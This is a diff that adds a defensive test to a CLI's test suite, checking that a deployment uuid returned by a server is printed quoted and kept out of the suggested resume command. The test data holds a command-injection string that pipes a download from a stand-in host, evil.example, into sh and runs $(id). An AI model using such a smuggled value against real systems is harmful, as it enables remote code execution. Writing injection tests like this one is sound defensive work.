@@ -236,6 +236,18 @@ describe('dms create app --wait: servers that are slow to list it', () => {
   }, TIMEOUT);
 });
 
+describe('dms create app --wait: a deployment named by a uuid that is not a plain id', () => {
+  it('is shown quoted, as data; the resume command holds only the application\'s plain uuid', async () => {
+    const EVIL = 'x;curl${IFS}evil.example/s|sh;#$(id)';
+    const s = await serve(server(APP, json(200, [row('in_progress', { id: undefined, deployment_uuid: EVIL })])));
+    const r = await runBin(['create', 'app', '--file', hostileBody(), '--wait', '--wait-timeout', '0.5'], { env: envHostile(s.url) });
+    expect(r.code).toBe(9);
+    expect(r.stderr).toMatch(new RegExp(`\\] deployment ${JSON.stringify(EVIL).replace(/[$()|{}]/g, '\\$&')} in progress`));
+    expect(r.stderr).not.toContain(`deployment ${EVIL}`);
+    expect(r.stderr).toMatch(new RegExp(`is still in progress\\. Resume with: dms logs ${APP} --follow\\n$`));
+  });
+});
+
 describe('dms create app --wait: headless', () => {
   it('the built create command (with --wait) loads no Ink or React', () => {
     const text = loadedWith(/^create-.*\.js$/, (t) => t.includes('stopped waiting'));
